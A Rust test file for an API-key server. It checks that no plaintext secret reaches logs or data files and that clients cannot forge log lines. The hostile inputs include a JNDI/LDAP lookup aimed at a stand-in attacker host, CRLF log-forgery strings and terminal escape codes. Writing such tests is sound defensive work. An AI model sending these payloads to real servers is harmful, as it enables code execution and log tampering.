//! Cases 86 and 88: no plaintext secret in anything that the server writes, and one JSON object a
//! line in its log, whatever clients send.

use crate::support::http::{self, Connection, Reply};
use crate::support::say;
use crate::support::site::{Credentials, Server, Site};
use crate::support::writers::{create, read};
use serde_json::{Value, json};
use std::fs;
use std::path::{Path, PathBuf};

/// Files that are there to hold secrets.
const ALLOWED: [&str; 2] = ["secrets.toml", "master-key"];

/// Texts and bytes that nothing may hold.
#[derive(Default)]
struct Secrets(Vec<Vec<u8>>);

impl Secrets {
    fn add(&mut self, secret: &str) {
        assert!(secret.len() >= 16, "too short to be looked for: {secret}");
        self.0.push(secret.as_bytes().to_vec());
    }

    /// A JWT, and its signature alone.
    fn add_token(&mut self, token: &str) {
        self.add(token);
        self.add(token.rsplit('.').next().expect("a signature"));
    }

    /// Pepper and keys, as the file has them and as bytes.
    fn add_file(&mut self, path: &Path) {
        use base64::Engine as _;
        use std::fmt::Write as _;
        let text = fs::read_to_string(path).expect("the secrets");
        let file: toml::Table = text.parse().expect("TOML");
        let mut found = 0;
        for (_, table) in &file {
            for (_, value) in table.as_table().into_iter().flatten() {
                let Some(text) = value.as_str() else { continue };
                let bytes = base64::engine::general_purpose::STANDARD.decode(text).expect("base64");
                let hex = bytes.iter().fold(String::new(), |mut hex, byte| {
                    write!(hex, "{byte:02x}").expect("strings take every write");
                    hex
                });
                self.add(text);
                self.add(&hex);
                self.0.push(bytes);
                found += 1;
            }
        }
        assert_eq!(found, 3, "pepper, key-encryption key, the realm's key");
    }

    fn hits(&self, bytes: &[u8]) -> usize {
        let held = |secret: &&Vec<u8>| bytes.windows(secret.len()).any(|window| window == *secret);
        self.0.iter().filter(held).count()
    }
}

/// Every file below a folder.
fn files(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).expect("a folder") {
        let path = entry.expect("an entry").path();
        if path.is_dir() {
            found.extend(files(&path));
        } else if path.is_file() {
            found.push(path);
        }
    }
    found
}

/// Creates through every surface, organizations, platform keys, tokens; all that was returned.
fn exercise(site: &Site, server: &Server, credentials: &Credentials) -> Secrets {
    let mut secrets = Secrets::default();
    secrets.add(&credentials.master);
    secrets.add_token(&credentials.token);
    let mut connection = Connection::open(&server.address).expect("a connection");
    for surface in 0..16 {
        let reply = create(&mut connection, credentials, surface).expect("a reply");
        assert!(reply.status < 300, "{}", reply.text);
        let entry = read(surface, &reply);
        secrets.add(&entry.secret);
        misplace(&server.address, credentials, &entry.secret);
        let bearer = format!("Bearer {}", credentials.master);
        let question = json!({ "key": entry.secret, "permissions": ["api:read"] }).to_string();
        for _ in 0..2 {
            let headers = [("authorization", &*bearer)];
            let _ = connection.send("POST", "/v1/keys/verify", &headers, &question);
        }
        if entry.client.is_none() {
            let own = format!("Bearer {}", entry.secret);
            let headers = [("authorization", &*own)];
            let whoami = connection.send("GET", "/v1/whoami", &headers, "").expect("a reply");
            assert_eq!(whoami.status, 200);
            let key = whoami.json().pointer("/key_id").and_then(Value::as_str).map(str::to_owned);
            if let Some(key) = key {
                let path = format!("/v1/keys/{key}/revoke");
                let _ = connection.send("POST", &path, &[("authorization", &*bearer)], "");
            }
        }
    }
    let words = ["organizations", "create", "--organization", "Other", "--name", "N"];
    let other = site.print(&[&words[..], &["--email", "n@example.com", "--json"]].concat());
    let other: Value = serde_json::from_str(&other).expect("JSON");
    secrets.add(other["api_key"].as_str().expect("a key"));
    let platform = site.print(&["keys", "create", "--platform", "--json"]);
    let platform: Value = serde_json::from_str(&platform).expect("JSON");
    secrets.add(platform["secret"].as_str().expect("a key"));
    misplace(&server.address, credentials, &credentials.token);
    misplace(&server.address, credentials, &credentials.master);
    // A customer's database password: sent where it is not used, and where it is refused.
    let password = "pa55word-0f-a-customer!";
    for wanted in [true, false] {
        let body = json!({ "name": "d", "multi_tenant": wanted, "db_host": "db.example.com",
            "db_port": 5432, "db_name": "d", "db_user": "u", "db_password": password });
        let bearer = format!("Bearer {}", credentials.master);
        let headers = [("authorization", &*bearer), ("content-type", "application/json")];
        let _ = connection.send("POST", "/sub-accounts/create", &headers, &body.to_string());
    }
    secrets.add(password);
    secrets.add_file(&site.data.join("secrets.toml"));
    secrets
}

/// A secret in every place where it does not belong.
fn misplace(address: &str, credentials: &Credentials, secret: &str) {
    let good = format!("Bearer {}", credentials.master);
    let (basic, twice) = (format!("Basic {secret}"), format!("Bearer {secret} {secret}"));
    let wrong = format!("Bearer {}x", &secret[..secret.len() - 1]);
    let once = |method, path: &str, headers: &[(&str, &str)], body: &str| {
        let _: std::io::Result<Reply> = http::once(address, method, path, headers, body);
    };
    once("GET", &format!("/v1/accounts/{secret}"), &[("authorization", &good)], "");
    once("GET", &format!("/v1/whoami?key={secret}"), &[], "");
    once("GET", &format!("/v1/whoami?x={secret}&{secret}=1"), &[("authorization", &good)], "");
    once("POST", &format!("/{secret}"), &[("authorization", &good)], secret);
    once(secret, "/v1/whoami", &[], "");
    for header in ["x-request-id", "user-agent", "cookie", "x-api-key", "x-tenantid", "realmname"] {
        once("GET", "/v1/whoami", &[("authorization", &good), (header, secret)], "");
    }
    for authorization in [&basic, &twice, &wrong, secret] {
        once("GET", "/v1/whoami", &[("authorization", authorization)], "");
    }
    let json = ("content-type", "application/json");
    let both = [("authorization", &*good), json];
    for body in [
        // Not as a name or in metadata, which are the caller's own texts and stored as they are.
        json!({ "nom": secret }),
        json!({ "name": "n", "metadata": [secret] }),
        json!({ "name": "n", "api_key": secret }),
        json!({ "name": "n", "key": { "permissions": [secret] } }),
        json!({ "name": { "x": secret } }),
        json!({ "data": { "type": secret, "attributes": { "name": secret } } }),
        json!({ "key": { "key": secret } }),
    ] {
        for path in ["/v1/accounts", "/sub-accounts/create", "/v1/keys/verify"] {
            once("POST", path, &both, &body.to_string());
        }
        let media = [("authorization", &*good), ("content-type", "application/vnd.api+json")];
        once("POST", "/api/v1/accounts", &media, &body.to_string());
    }
    once("POST", "/v1/accounts", &both, &format!("{{\"name\":\"{secret}"));
    let token = format!("Bearer {}", credentials.token);
    let service = [("authorization", &*token), ("x-tenantid", secret)];
    once("POST", "/api/v1/admin/service-account/create", &service, secret);
}

/// Seen failing with the `Authorization` header in the log.
#[test]
fn case_86_nothing_that_the_server_writes_holds_a_plaintext_secret() {
    let folder = tempfile::tempdir().expect("a directory");
    let mut site = Site::new(folder.path());
    site.options.extend(["--log-level".to_owned(), "trace".to_owned()]);
    let server = site.start();
    let credentials = site.credentials();
    let secrets = exercise(&site, &server, &credentials);
    let printed = server.printed();
    assert_eq!(secrets.hits(printed.as_bytes()), 0, "in what was printed");
    let mut looked_at = 0;
    let look = |when: &str| {
        let mut bytes_all = Vec::new();
        for path in files(folder.path()) {
            let bytes = fs::read(&path).expect("a file");
            let name = path.file_name().and_then(|name| name.to_str()).unwrap_or_default();
            if ALLOWED.contains(&name) {
                assert!(secrets.hits(&bytes) > 0, "the search finds what is there");
            } else {
                assert_eq!(secrets.hits(&bytes), 0, "{when}: {}", path.display());
                bytes_all.extend(bytes);
            }
        }
        bytes_all
    };
    looked_at += look("serving").len();
    assert!(server.stop().success());
    let after = look("stopped");
    looked_at += after.len();
    let holds = |text: &str| after.windows(text.len()).any(|window| window == text.as_bytes());
    assert!(holds("alpha-007") && holds("tenantry::access"), "database and log were looked at");
    say(&format!("86: {} secrets, {looked_at} bytes, 0 hits", secrets.0.len()));
}

/// Seen failing with the request's path and user agent in the log: escaped, but there.
#[test]
fn case_88_no_client_can_write_a_line_of_the_log() {
    let folder = tempfile::tempdir().expect("a directory");
    let mut site = Site::new(folder.path());
    site.options.extend(["--log-level".to_owned(), "trace".to_owned()]);
    let server = site.start();
    let attacks = [
        "\u{1b}[31mred",
        "${jndi:ldap://evil.example/a}",
        "%0a{\"level\":\"admin\"}",
        "\t{\"level\":\"ADMIN\"}",
        "\u{85}\u{2028}evil",
        "\r{\"level\":\"ADMIN\"}",
        &"evil".repeat(4000),
    ];
    for attack in attacks {
        for header in ["x-request-id", "user-agent", "authorization", "x-tenantid", "referer"] {
            let mut connection = Connection::open(&server.address).expect("a connection");
            let head = format!("GET /v1/whoami HTTP/1.1\r\nhost: x\r\n{header}: {attack}\r\n\r\n");
            let _ = connection.exchange(head.as_bytes());
        }
        for target in [format!("/{attack}"), format!("/v1/accounts/{attack}?{attack}")] {
            let mut connection = Connection::open(&server.address).expect("a connection");
            let head = format!("GET {target} HTTP/1.1\r\nhost: x\r\n\r\n");
            let _ = connection.exchange(head.as_bytes());
        }
        let mut connection = Connection::open(&server.address).expect("a connection");
        let _ = connection.exchange(format!("{attack} / HTTP/1.1\r\nhost: x\r\n\r\n").as_bytes());
    }
    assert!(server.stop().success());
    let log = site.whole_log();
    assert!(log.lines().count() > attacks.len(), "the requests were logged");
    for line in log.lines() {
        let object: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"));
        assert!(object.is_object() && object["level"].is_string(), "{line}");
        assert!(!line.bytes().any(|byte| byte < 0x20 || byte == 0x7f), "{line:?}");
        assert!(line.len() < 2_000, "{} bytes in a line", line.len());
        for word in ["evil", "jndi", "admin\\\"", "[31m"] {
            assert!(!line.contains(word), "{word} in {line}");
        }
    }
}
